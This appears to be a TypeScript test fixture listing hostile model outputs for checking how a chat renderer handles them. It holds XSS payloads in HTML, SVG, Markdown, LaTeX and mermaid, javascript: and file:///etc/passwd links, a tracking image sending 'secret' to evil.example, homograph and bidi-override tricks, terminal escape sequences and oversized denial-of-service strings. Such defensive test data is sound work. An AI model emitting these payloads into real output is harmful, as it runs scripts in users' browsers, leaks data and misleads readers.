const MEGABYTE = 1_000_000;

/** Model output that executed, loaded or broke something somewhere. */
export const hostileTexts: readonly string[] = [
  // HTML and SVG.
  '<script>globalThis.owned = 1; alert(1)</script>',
  '<img src=x onerror="globalThis.owned=1">',
  '<svg onload="globalThis.owned=1"><script>globalThis.owned=1</script><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>',
  '<form action=https://evil.example><button>Click</button></form><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<details open ontoggle=alert(1)><summary>x</summary></details><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>',
  // Links and images.
  '[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](java\tscript:alert(1)) [a](data:text/html,<script>alert(1)</script>) [v](vbscript:x)',
  '[https://bank.example](https://evil.example/login) [x](https://bank.example@evil.example) [relative](/api/v1/chats) [file](file:///etc/passwd)',
  '![tracking](https://evil.example/pixel.png?q=secret) ![svg](data:image/svg+xml;base64,PHN2Zz4=) ![a][b]\n\n[b]: https://evil.example/ref.png',
  '<https://evil.example/auto> https://xn--80ak6aa92e.example/ https://аррӏе.example www.evil.example',
  // Formulas and diagrams.
  '$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlData{onclick=alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  '$$\\def\\a{\\a\\a}\\a$$\n\n$$\\newcommand{\\x}{\\x\\x}\\x$$\n\n$\\rule{500em}{500em}$ $\\kern{9999em}x$ $\\color{url(https://evil.example)}x$',
  '```mermaid\ngraph TD\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n%%{init: {"securityLevel": "loose"}}%%\n```',
  // Terminals.
  '\u001B[31mred\u001B[0m \u001B]8;;javascript:alert(1)\u0007link\u001B]8;;\u0007 \u001B[2J\u001B[H \u001B]0;title\u0007 \u009B31m',
  // Misleading or stacked characters.
  'safe\u202Egpj.exe \u2066reordered\u2069 if (access\u200B\u200C\u200D == "user\u202E \u2066// check\u2069")',
  `zalgo: H${'\u0301\u0300\u0308\u0330'.repeat(300)}e${'\u0334'.repeat(300)}llo`,
  `${'\u200B'.repeat(5000)}invisible${'\uFEFF'.repeat(5000)}`,
  '﷽'.repeat(300),
  // Structures that are too deep, too long or unterminated.
  `${'>'.repeat(500)} deep`,
  `${'<details open>\n'.repeat(1300)}deep\n${'</details>\n'.repeat(1300)}`,
  Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth}`).join('\n'),
  '['.repeat(3000),
  '*a '.repeat(1500),
  '`'.repeat(2000),
  `| ${'wide column | '.repeat(80)}\n|${'---|'.repeat(80)}\n| ${'cell | '.repeat(80)}`,
  `# ${'heading'.repeat(400)}`,
  `\`${'inlinecode'.repeat(500)}\``,
  `https://evil.example/${'a'.repeat(4000)}`,
  '```html\n<script>globalThis.owned = 1</script>\n```',
  `\`\`\`"><script>alert(1)</script>\nx\n\`\`\``,
  `\`\`\`js\n${'x'.repeat(20_000)}\n\`\`\``,
  // A line of a megabyte.
  'x'.repeat(MEGABYTE),
  '~~~\nnever closed <b>',
];
